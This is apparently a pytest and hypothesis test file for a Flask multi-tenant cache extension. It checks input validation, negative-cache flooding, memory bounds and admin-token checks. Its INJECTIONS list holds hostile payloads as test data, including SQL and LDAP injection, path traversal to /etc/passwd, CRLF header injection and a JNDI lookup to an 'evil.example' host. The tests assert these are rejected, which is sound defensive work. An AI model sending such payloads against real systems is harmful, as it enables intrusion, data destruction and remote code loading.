"""Hostile input, negative-cache flooding and the admin surface, through the real app."""

from __future__ import annotations

import gc
import hmac
import json
import random
import string
import tracemalloc
import uuid
from collections.abc import Iterator
from typing import Any

import pytest
from flask import Flask
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from werkzeug.exceptions import BadHost
from werkzeug.routing import Map
from werkzeug.test import EnvironBuilder

import flask_tenant_cache.extension
from flask_tenant_cache import Tenant, TenantIdentifier
from flask_tenant_cache.identifiers import (
    InvalidIdentifier,
    TenantIdentifierValidator,
    normalize_host,
)
from tests.helpers.app import (
    ACME_ID,
    ADMIN_TOKEN,
    GLOBEX_ID,
    INITECH_ID,
    SEED,
    CountingLoader,
    build_app,
    call,
)

PROPERTY = settings(
    max_examples=250,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)

#: The seeded tenants as the loader returns them, to check every 200 against.
TENANTS = [
    Tenant(id=tid, slug=slug, name=name, domains=(domain,) if domain else ())
    for tid, slug, domain, name in SEED
]
OWNER = {alias: t.id for t in TENANTS for alias in t.aliases}
#: What the app's validator must decide, built independently of the app.
ORACLE = TenantIdentifierValidator(["example.com"])
REAL_NAMES = ["acme", "globex", "initech", "acme.test", "portal.initech.example"]

INJECTIONS = [
    "acme' OR 1=1--",
    "acme'--",
    "acme;DROP TABLE tenants",
    "*)(uid=*))(|(uid=*",
    "acme)(|(objectClass=*)",
    "../../etc/passwd",
    "../../etc",
    "..",
    "%2e%2e",
    "%2e%2e%2fetc",
    "acme%00",
    "acme\x00",
    "acme\r\nX-Evil: 1",
    "acme\nHost: globex.example.com",
    "${jndi:ldap://evil.example/a}",
    "${jndi:ldap:x}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "acme.example.com/../globex",
    "acme.example.com@globex.example.com",
    "acme\\globex",
]

#: Lookalikes whose lowercase is not ASCII, so no folding can turn them into a real name.
HOMOGLYPHS = {
    "a": ["\u0430", "\u03b1", "\u0251"],
    "c": ["\u0441", "\u03f2"],
    "e": ["\u0435", "\u0454"],
    "o": ["\u043e", "\u03bf"],
    "i": ["\u0456", "\u0131", "\u03b9"],
    "m": ["\u043c"],
    "t": ["\u0442"],
    "x": ["\u0445"],
    "p": ["\u0440"],
    "n": ["\u0578"],
    "l": ["\u04cf"],
    "g": ["\u0261"],
    "b": ["\u0432"],
    "h": ["\u04bb"],
}

SLUG_CHARS = string.ascii_lowercase + string.digits


@st.composite
def homoglyphs(draw: Any) -> str:
    """A real tenant name with at least one letter swapped for a non-ASCII lookalike."""
    name = draw(st.sampled_from(REAL_NAMES))
    spots = [i for i, ch in enumerate(name) if ch in HOMOGLYPHS]
    picked = draw(st.sets(st.sampled_from(spots), min_size=1))
    chars = list(name)
    for i in picked:
        chars[i] = draw(st.sampled_from(HOMOGLYPHS[chars[i]]))
    return "".join(chars)


def huge(draw_unit: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    """A unit repeated to 256 B .. 64 KiB (built, so hypothesis does not draw 64 K chars)."""
    return st.builds(
        lambda unit, size: (unit * (size // len(unit) + 1))[:size],
        draw_unit,
        st.integers(256, 64 * 1024),
    )


slugs = st.from_regex(r"[a-z0-9](?:[a-z0-9-]{0,20}[a-z0-9])?", fullmatch=True)
hostile = st.one_of(
    st.text(max_size=300),
    st.binary(max_size=300).map(lambda b: b.decode("latin-1")),
    st.text(st.characters(max_codepoint=0x1F) | st.sampled_from("\x7f ./%\\:[]"), max_size=40),
    huge(st.text(min_size=1, max_size=8)),
    st.sampled_from(INJECTIONS),
    st.tuples(st.sampled_from(REAL_NAMES), st.sampled_from(INJECTIONS)).map("".join),
    homoglyphs(),
    slugs,
    slugs.map(lambda s: s + ".example.com"),
    slugs.map(lambda s: s.upper() + ".Example.COM.:8080"),
    st.uuids().map(str),
    st.uuids().map(lambda u: u.hex.upper()),
    st.sampled_from([*REAL_NAMES, str(ACME_ID), GLOBEX_ID.hex, "ACME.EXAMPLE.COM", "acme.test."]),
)


@pytest.fixture(scope="module")
def shared_app() -> Flask:
    """One app for every example (hypothesis reruns the test body, not the fixture)."""
    return build_app()


def werkzeug_rejects_host(host: str) -> bool:
    """Whether werkzeug's router itself refuses ``host`` (BadHost) before any hook runs."""
    env = EnvironBuilder().get_environ()
    env["HTTP_HOST"] = host
    try:
        Map().bind_to_environ(env)
    except BadHost:
        return True
    return False


def expected(value: str, *, as_host: bool) -> uuid.UUID | int:
    """The answer the validator and the seeded table call for: a tenant id, 400 or 404."""
    try:
        if as_host:
            ident = ORACLE.parse_host(value) if value else None
        else:
            ident = ORACLE.parse_header(value)
    except InvalidIdentifier:
        return 400
    if ident is None:
        return 400  # names no tenant, and one is required
    return OWNER.get(ident, 404)


def check_answer(app: Flask, value: str, *, as_host: bool) -> int:
    loader: CountingLoader = app.extensions["test"]["loader"]
    before = len(loader.calls)
    key = "HTTP_HOST" if as_host else "HTTP_X_TENANT_ID"
    status, headers, body = call(app, **{key: value})
    new_calls = loader.calls[before:]

    assert status in (200, 400, 404), (status, body[:200])
    for ident in new_calls:
        assert isinstance(ident, TenantIdentifier)
        assert TenantIdentifier.from_cache_key(ident.cache_key) == ident
    if status == 400:
        assert new_calls == [], "invalid input reached the loader"
        if as_host and headers["Content-Type"].startswith("text/html"):
            # werkzeug's router refused the host before the extension's hook ran.
            assert werkzeug_rejects_host(value)
            return status
    assert headers["Content-Type"] == "application/json"
    data = json.loads(body)
    want = expected(value, as_host=as_host)
    if status == 200:
        assert want == uuid.UUID(data["id"])
    else:
        assert isinstance(data["error"], str)
        assert data["error"]
        assert want == status
    return status


@PROPERTY
@given(hostile)
@example("\x00")
@example("a" * 64 * 1024)
@example("\u0430cme")
@example("acme\r\nX-Evil: 1")
def test_any_header_value_is_200_400_or_404(shared_app: Flask, value: str) -> None:
    check_answer(shared_app, value, as_host=False)


@PROPERTY
@given(hostile)
@example("\x00")
@example("a" * 64 * 1024)
@example("\u0430cme.example.com")
@example("xn--")
@example("a..b")
def test_any_host_is_200_400_or_404(shared_app: Flask, value: str) -> None:
    check_answer(shared_app, value, as_host=True)


@settings(PROPERTY, max_examples=150)
@given(homoglyphs(), st.booleans())
def test_homoglyphs_never_reach_a_real_tenant(shared_app: Flask, value: str, as_host: bool) -> None:
    assert check_answer(shared_app, value, as_host=as_host) != 200


@pytest.mark.parametrize("value", INJECTIONS)
@pytest.mark.parametrize("as_host", [False, True])
def test_injection_strings_are_400_and_never_loaded(
    shared_app: Flask, value: str, as_host: bool
) -> None:
    assert check_answer(shared_app, value, as_host=as_host) == 400


def test_the_oracle_agrees_on_real_names(shared_app: Flask) -> None:
    # Without this, a check_answer that always saw 400 would pass the properties above.
    assert check_answer(shared_app, "acme", as_host=False) == 200
    assert check_answer(shared_app, "acme.example.com", as_host=True) == 200
    assert check_answer(shared_app, "portal.initech.example:443", as_host=True) == 200
    assert check_answer(shared_app, "nobody", as_host=False) == 404


# -- memory stays bounded --------------------------------------------------------------------------


class SnapshotLoader:
    """The app's tenant rows, read once: the memory test measures the extension, not SQLite."""

    def __init__(self, tenants: list[Tenant]) -> None:
        self.by_alias = {alias: t for t in tenants for alias in t.aliases}

    def load(self, identifier: TenantIdentifier) -> Tenant | None:
        return self.by_alias.get(identifier)


def random_names(rnd: random.Random, count: int) -> Iterator[tuple[str, str]]:
    """``count`` distinct valid-looking names: header slugs, tenant subdomains, custom hosts."""
    for i in range(count):
        word = "".join(rnd.choices(SLUG_CHARS, k=10)) + f"{i:x}"
        yield (("header", word), ("host", f"{word}.example.com"), ("host", f"shop-{word}.io"))[
            i % 3
        ]


def test_memory_is_bounded_under_distinct_names() -> None:
    app = build_app(TENANT_CACHE_MAX_ENTRIES=2000, TENANT_CACHE_V1_MAX_ENTRIES=500)
    loader: CountingLoader = app.extensions["test"]["loader"]
    state = app.extensions["tenant_cache"]
    validator = state.validator
    v1, v2 = state.resolvers["v1"], state.resolvers["v2"]
    rnd = random.Random(20_000)
    loads: list[int] = []
    with app.app_context():
        loader.inner = SnapshotLoader(list(loader.inner.iter_tenants()))

        def one_round() -> None:
            # What the hook does per request, minus the WSGI plumbing (20 000 requests through
            # the test client would take a minute under tracemalloc).
            for i, (kind, raw) in enumerate(random_names(rnd, 20_000)):
                ident = (
                    validator.parse_header(raw) if kind == "header" else validator.parse_host(raw)
                )
                assert (v1 if i % 2 else v2).resolve(ident) is None
            # The loader's call log is the test's, not the extension's: keep it out of the sums.
            loads.append(len(loader.calls))
            loader.calls.clear()

        gc.collect()
        tracemalloc.start()
        try:
            one_round()
            gc.collect()
            after_first = tracemalloc.get_traced_memory()[0]
            one_round()
            gc.collect()
            after_second = tracemalloc.get_traced_memory()[0]
        finally:
            tracemalloc.stop()

        for memo in (validator.parse_header, validator.parse_host, normalize_host):
            info = memo.cache_info()
            assert info.currsize == info.maxsize == 4096, info
        s2, s1 = v2.stats(), v1.stats()
        assert s2.negative_entries == s2.max_negative_entries == 200  # 10 % of 2000
        assert s2.weighted_size <= 2000
        assert s2.negative_evictions >= 20_000 - 200
        assert s1.negative_entries == 500
        assert s1.positive_entries == 0
        assert loads == [20_000, 20_000]
    growth = after_second - after_first
    print(f"MEMORY-FIGURES: after_first={after_first} after_second={after_second} growth={growth}")
    # The caches were full after the first round: the second only replaces entries.
    assert growth < 256 * 1024, (after_first, after_second)


# -- negative-cache flooding -----------------------------------------------------------------------

#: These tests count evictions: however long a slow machine takes for a flood, no entry may
#: expire (the idle timeout is 60 s by default) and be counted as an eviction, or not.
NO_EXPIRY = {
    "TENANT_CACHE_TTL": 86_400,
    "TENANT_CACHE_NEGATIVE_TTL": 86_400,
    "TENANT_CACHE_IDLE_TIMEOUT": None,
}

REAL_REQUESTS = [
    {"HTTP_X_TENANT_ID": "acme"},
    {"HTTP_X_TENANT_ID": str(GLOBEX_ID)},
    {"HTTP_HOST": "initech.example.com"},
    {"HTTP_HOST": "acme.test"},
]


#: The tenants REAL_REQUESTS name (acme twice).
REAL_TENANTS = 3


def flood(app: Flask, count: int, *, seed: int, cap: int) -> None:
    state = app.extensions["tenant_cache"]
    resolver = state.resolvers["v2" if app.config["TENANT_CACHE_USE_V2"] else "v1"]
    for i, (kind, raw) in enumerate(random_names(random.Random(seed), count)):
        status, _, _ = call(app, **{"HTTP_X_TENANT_ID" if kind == "header" else "HTTP_HOST": raw})
        assert status == 404
        if i % 250 == 0:
            assert resolver.stats().negative_entries <= cap


def warm_real(app: Flask) -> int:
    loader: CountingLoader = app.extensions["test"]["loader"]
    for environ in REAL_REQUESTS:
        assert call(app, **environ)[0] == 200
    return len(loader.calls)


def flood_past_real_tenants(app: Flask, count: int, *, cap: int) -> dict[str, Any]:
    """Warm the real tenants, flood ``count`` unknown names (seeded by ``count``), then check
    the real tenants are still served from the cache; return the serving resolver's stats."""
    loader: CountingLoader = app.extensions["test"]["loader"]
    warmed = warm_real(app)
    assert warmed == len(REAL_REQUESTS) - 1  # acme by slug cached it under acme.test too
    flood(app, count, seed=count, cap=cap)
    assert len(loader.calls) == warmed + count
    for environ in REAL_REQUESTS:
        assert call(app, **environ)[0] == 200
    assert len(loader.calls) == warmed + count, "a real tenant was evicted by the flood"
    version = "v2" if app.config["TENANT_CACHE_USE_V2"] else "v1"
    with app.app_context():
        result: dict[str, Any] = app.extensions["tenant_cache"].ext.stats()[version]
    return result


@pytest.mark.parametrize("version", ["v1", "v2"])
def test_flood_of_unknown_names_does_not_evict_tenants(version: str) -> None:
    app = build_app(
        **NO_EXPIRY,
        TENANT_CACHE_USE_V2=version == "v2",
        TENANT_CACHE_MAX_ENTRIES=200,
        TENANT_CACHE_V1_MAX_ENTRIES=200,
        TENANT_CACHE_NEGATIVE_MAX_ENTRIES=20,
    )
    stats = flood_past_real_tenants(app, 5000, cap=20)
    assert stats["negative_entries"] == 20
    if version == "v2":
        assert stats["max_negative_entries"] == 20
        assert stats["negative_evictions"] == 5000 - 20
        assert stats["evictions"] == 0
        assert stats["entry_count"] == REAL_TENANTS + 20
    else:
        assert stats["positive_entries"] == REAL_TENANTS
        assert stats["evictions"] == 5000 - 20  # all from the negative cache


def test_v2_default_negative_cap_is_a_tenth_of_max_entries() -> None:
    app = build_app(**NO_EXPIRY, TENANT_CACHE_MAX_ENTRIES=200)
    assert app.config["TENANT_CACHE_NEGATIVE_MAX_ENTRIES"] is None
    stats = flood_past_real_tenants(app, 600, cap=20)
    assert stats["max_negative_entries"] == 20
    assert stats["negative_entries"] == 20
    assert stats["negative_evictions"] == 600 - 20


def test_v1_default_negative_cache_is_separate_and_bounded() -> None:
    app = build_app(**NO_EXPIRY, TENANT_CACHE_USE_V2=False, TENANT_CACHE_V1_MAX_ENTRIES=50)
    stats = flood_past_real_tenants(app, 300, cap=50)
    assert stats["negative_entries"] == 50
    assert stats["positive_entries"] == REAL_TENANTS


@pytest.mark.parametrize("bad", [0, -1, "x", True, 2.5])
def test_bad_negative_cap_is_rejected(bad: Any) -> None:
    with pytest.raises(ValueError, match="TENANT_CACHE_NEGATIVE_MAX_ENTRIES"):
        build_app(TENANT_CACHE_NEGATIVE_MAX_ENTRIES=bad)


# -- the admin surface -----------------------------------------------------------------------------


def admin_routes(app: Flask) -> list[tuple[str, str]]:
    routes = [
        (method, rule.rule)
        for rule in app.url_map.iter_rules()
        if rule.endpoint.startswith("tenant_cache.")
        for method in sorted(rule.methods - {"HEAD", "OPTIONS"})
    ]
    assert {path.rsplit("/", 1)[1] for _, path in routes} >= {"stats", "invalidate"}
    return routes


def admin_call(client: Any, method: str, path: str, headers: dict[str, str], body: Any) -> Any:
    return client.open(path, method=method, headers=headers, json=body)


WRONG_CREDENTIALS = [
    {},
    {"Authorization": ""},
    {"Authorization": "Bearer"},
    {"Authorization": "Bearer wrong-token"},
    {"Authorization": f"Bearer {ADMIN_TOKEN[:-1]}X"},
    {"Authorization": f"Bearer X{ADMIN_TOKEN[1:]}"},
    {"Authorization": f"Bearer {ADMIN_TOKEN[:-1]}"},
    {"Authorization": f"Bearer {ADMIN_TOKEN.upper()}"},
    {"Authorization": f"Basic {ADMIN_TOKEN}"},
    {"Authorization": ADMIN_TOKEN},
    {"X-Admin-Token": ADMIN_TOKEN},
]


def test_every_admin_route_refuses_without_credentials() -> None:
    app = build_app()
    client = app.test_client()
    assert client.get("/whoami", headers={"X-Tenant-ID": "acme"}).status_code == 200
    routes = admin_routes(app)
    for method, path in routes:
        for headers in WRONG_CREDENTIALS:
            # A body that would drop every entry, were it accepted.
            r = admin_call(client, method, path, headers, {"all": True})
            assert r.status_code in (401, 403), (method, path, headers, r.status_code)
            assert r.json["error"] in ("admin_auth_required", "admin_forbidden")
        # The same routes open with the token: the refusals above were about credentials.
        r = admin_call(client, method, path, {"Authorization": f"Bearer {ADMIN_TOKEN}"}, {})
        assert r.status_code not in (401, 403), (method, path)
    with app.app_context():
        # Nothing was dropped by the refused POST {"all": true} calls.
        assert app.extensions["tenant_cache"].ext.stats()["v2"]["entry_count"] == 1


def test_admin_routes_closed_when_nothing_is_configured() -> None:
    app = build_app(TENANT_CACHE_ADMIN_TOKEN=None)
    client = app.test_client()
    for method, path in admin_routes(app):
        for headers in [*WRONG_CREDENTIALS, {"Authorization": f"Bearer {ADMIN_TOKEN}"}]:
            r = admin_call(client, method, path, headers, {"all": True})
            assert r.status_code == 403, (method, path, headers)
            assert r.json["error"] == "admin_forbidden"


def test_tokens_are_compared_in_constant_time(monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[tuple[Any, Any]] = []
    real = hmac.compare_digest

    def spy(a: Any, b: Any) -> bool:
        calls.append((a, b))
        return real(a, b)

    monkeypatch.setattr(flask_tenant_cache.extension.hmac, "compare_digest", spy)
    app = build_app()
    client = app.test_client()
    near_miss = ADMIN_TOKEN[:-1] + "X"
    r = client.get("/_tenant-cache/stats", headers={"Authorization": f"Bearer {near_miss}"})
    assert r.status_code == 401
    assert calls == [(near_miss.encode(), ADMIN_TOKEN.encode())]
    r = client.get("/_tenant-cache/stats", headers={"Authorization": f"Bearer {ADMIN_TOKEN}"})
    assert r.status_code == 200
    assert calls[1:] == [(ADMIN_TOKEN.encode(), ADMIN_TOKEN.encode())]


def test_invalidate_cannot_probe_which_tenants_exist() -> None:
    app = build_app()
    client = app.test_client()
    auth = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
    loader: CountingLoader = app.extensions["test"]["loader"]

    def invalidate(identifier: str) -> Any:
        return client.post(
            "/_tenant-cache/invalidate", json={"identifier": identifier}, headers=auth
        )

    pairs = [("globex", "nobody"), (str(INITECH_ID), str(uuid.uuid4())), ("acme.test", "x.test")]
    for known, unknown in pairs:
        a, b = invalidate(known), invalidate(unknown)
        assert (a.status_code, list(a.headers), a.data) == (
            b.status_code,
            list(b.headers),
            b.data,
        )
        assert a.json == {"invalidated": 0}
    # Invalidating never asks the loader, so timing does not tell known from unknown either.
    assert loader.calls == []
    # A cached tenant gives a count, in the same shape.
    assert client.get("/whoami", headers={"X-Tenant-ID": "acme"}).status_code == 200
    cached = invalidate("acme")
    assert cached.status_code == 200
    assert set(cached.json) == {"invalidated"}
    # Malformed identifiers: one 400 shape whatever the value.
    bad = [invalidate(v) for v in ("\u0430cme", "../x")]
    assert {r.status_code for r in bad} == {400}
    assert {tuple(r.json) for r in bad} == {("error", "message")}


def test_stats_expose_counts_not_tenant_names() -> None:
    app = build_app()
    client = app.test_client()
    for headers in (
        {"X-Tenant-ID": "acme"},
        {"X-Tenant-ID": "globex"},
        {"X-Tenant-ID": str(INITECH_ID)},
        {"Host": "acme.test"},
        {"Host": "initech.example.com"},
        {"X-Tenant-ID": "nobody-here"},
    ):
        assert client.get("/whoami", headers=headers).status_code in (200, 404)
    secrets = ["acme", "Acme Corp", "acme.test", "globex", "Globex", "initech", "Initech"]
    secrets += ["nobody-here", *(str(t) for t in (ACME_ID, GLOBEX_ID, INITECH_ID))]
    with app.app_context():
        stats = app.extensions["tenant_cache"].ext.stats()
    assert stats["v2"]["entry_count"] == 4  # the requests above filled it: 3 tenants, 1 unknown
    route = client.get("/_tenant-cache/stats", headers={"Authorization": f"Bearer {ADMIN_TOKEN}"})
    cli = app.test_cli_runner().invoke(args=["tenant-cache", "stats"])
    for text in (json.dumps(stats), route.get_data(as_text=True), cli.output):
        lowered = text.lower()
        for secret in secrets:
            assert secret.lower() not in lowered, secret


def test_cli_needs_no_credentials() -> None:
    app = build_app(TENANT_CACHE_ADMIN_TOKEN=None)
    client = app.test_client()
    assert client.get("/whoami", headers={"X-Tenant-ID": "acme"}).status_code == 200
    runner = app.test_cli_runner()
    result = runner.invoke(args=["tenant-cache", "stats"])
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["v2"]["entry_count"] == 1
    # No token asked for: without Redis it fails for want of a way to the servers, not 401.
    result = runner.invoke(args=["tenant-cache", "invalidate", "acme"])
    assert result.exit_code == 1, result.output
    assert "TENANT_CACHE_REDIS_URL is not set" in result.stderr
